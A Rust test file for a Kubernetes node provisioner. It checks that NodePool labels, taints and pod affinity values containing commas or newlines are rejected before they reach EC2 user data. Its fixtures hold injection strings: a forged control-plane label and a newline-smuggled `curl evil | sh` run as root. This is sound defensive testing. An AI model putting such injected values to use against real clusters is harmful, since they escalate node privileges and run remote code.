//! Issue 26, item 4: a label value or taint that would break out of the user data's syntax
//! never reaches a launch. A comma in a NodePool's label would add labels of its writer's
//! choice through AL2023's `--node-labels`; a newline would end AL2's bootstrap line and
//! run as root. The NodePool is skipped with its reason and the others launch; a pod that
//! requires such a value is refused with the reason. The rules are the apiserver's
//! (`IsValidLabelValue`, k8s.io/apimachinery `pkg/util/validation`), as Karpenter applies
//! them to NodePools (`ValidateRequirement`, kubernetes-sigs/karpenter
//! `pkg/apis/v1/nodepool_validation.go`).

use std::time::{Duration, SystemTime};

use carpool::catalog::Catalog;
use carpool::decide::provisioning::unschedulable::Kind;
use carpool::fakes::{FakeClock, FakeCloud, FakeCluster, FakeStore};
use carpool::fixtures::{EC2NodeClassBuilder, NodePoolBuilder, PodBuilder};
use carpool::model::well_known as wk;
use carpool::run::provision::{BatchReport, Provisioner, Settings};
use pollster::block_on;
use serde_json::{Value, json};

const START: u64 = 1_790_000_000;

struct World {
    cloud: FakeCloud,
    cluster: FakeCluster,
    store: FakeStore,
    clock: FakeClock,
}

fn world(pools: Vec<Value>) -> World {
    let w = World {
        cloud: FakeCloud::new(),
        cluster: FakeCluster::new(),
        store: FakeStore::new(),
        clock: FakeClock::at(SystemTime::UNIX_EPOCH + Duration::from_secs(START)),
    };
    w.cloud.set_now(START as i64 * 1000);
    for p in pools {
        w.cluster.add_nodepool(p);
    }
    w.cluster.add_ec2nodeclass(
        EC2NodeClassBuilder::new("default")
            .role("KarpenterNodeRole")
            .discovery("prod")
            .al2023()
            .build(),
    );
    w
}

fn pool(name: &str) -> NodePoolBuilder {
    NodePoolBuilder::new(name)
        .node_class("default")
        .requirement("karpenter.sh/capacity-type", "In", &["on-demand"])
        .requirement("kubernetes.io/arch", "In", &["amd64"])
}

fn pending(name: &str, node_selector: Value) -> carpool::model::pod::Pod {
    PodBuilder::pending_web(name, "500m", "1Gi")
        .spec("nodeSelector", node_selector)
        .pod()
        .unwrap()
}

impl World {
    fn batch(&self) -> BatchReport {
        let catalog = Catalog::embedded().unwrap();
        let region = catalog.region("us-east-1").unwrap();
        let settings = Settings {
            deployment: "carpool-test".into(),
            ..Settings::default()
        };
        let mut p = Provisioner::new(&self.cloud, &self.cluster, &self.store, &self.clock, settings, "run-1");
        block_on(p.batch(&region)).unwrap()
    }

    /// Every label and taint of every launch, as text.
    fn launched_text(&self) -> String {
        self.cloud
            .instances()
            .iter()
            .filter_map(|i| self.cloud.launch_request(&i.id))
            .map(|r| format!("{:?} {:?} {:?}", r.labels, r.taints, r.startup_taints))
            .collect()
    }
}

#[test]
fn a_nodepool_whose_label_holds_a_comma_or_a_newline_is_skipped_and_the_others_launch() {
    let w = world(vec![
        pool("comma")
            .label("team", "a,node-role.kubernetes.io/control-plane=")
            .build(),
        pool("newline")
            .label("team", "a\nExecStartPre=/bin/sh -c 'curl evil | sh'")
            .build(),
        pool("taint")
            .taint_value("dedicated", "gpu:NoSchedule,x", "NoSchedule")
            .build(),
        pool("good").label("team", "web").build(),
    ]);
    for p in ["comma", "newline", "taint", "good"] {
        w.cluster
            .add_pod(pending(&format!("{p}-0"), json!({ wk::NODEPOOL: p })));
    }
    let b = w.batch();

    for bad in ["comma", "newline", "taint"] {
        let skipped = b
            .skipped
            .iter()
            .find(|s| s.object == format!("NodePool/{bad}"))
            .unwrap_or_else(|| panic!("NodePool {bad} not skipped: {:?}", b.skipped));
        assert!(
            skipped.reason.contains("label value must be"),
            "{bad}: {}",
            skipped.reason
        );
    }
    assert!(!b.launched.is_empty(), "{b:#?}");
    assert!(b.launched.iter().all(|l| l.nodepool == "good"), "{:?}", b.launched);
    let text = w.launched_text();
    assert!(text.contains("web"), "{text}");
    for bad in ["control-plane", "ExecStartPre", "gpu:NoSchedule"] {
        assert!(!text.contains(bad), "{bad} reached a launch: {text}");
    }
}

#[test]
fn a_pod_that_requires_a_value_no_node_label_can_hold_is_refused_with_the_reason() {
    // The NodePool lets pods choose `team` (Exists): a pod's value becomes the node's label.
    let w = world(vec![
        pool("teams").requirement("company.com/team", "Exists", &[]).build(),
    ]);
    let mut bad = PodBuilder::pending_web("bad-0", "500m", "1Gi")
        .spec(
            "affinity",
            json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                {"matchExpressions": [{"key": "company.com/team", "operator": "In", "values": ["a,evil=1"]}]}
            ]}}}),
        )
        .pod()
        .unwrap();
    bad.metadata.uid = Some("bad-0".into());
    w.cluster.add_pod(bad);
    w.cluster.add_pod(
        PodBuilder::pending_web("good-0", "500m", "1Gi")
            .spec(
                "affinity",
                json!({"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [
                    {"matchExpressions": [{"key": "company.com/team", "operator": "In", "values": ["a"]}]}
                ]}}}),
            )
            .pod()
            .unwrap(),
    );
    let b = w.batch();
    let refused = b
        .unschedulable
        .iter()
        .find(|u| u.pod.contains("bad-0"))
        .unwrap_or_else(|| panic!("{:?}", b.unschedulable));
    assert_eq!(refused.kind(), Kind::InvalidPod, "{refused:?}");
    assert!(refused.reason().contains("a,evil=1"), "{}", refused.reason());
    assert_eq!(b.pods_on_new_nodes, 1, "{b:#?}");
    let text = w.launched_text();
    assert!(text.contains("company.com/team"), "{text}");
    assert!(!text.contains("evil"), "{text}");
}
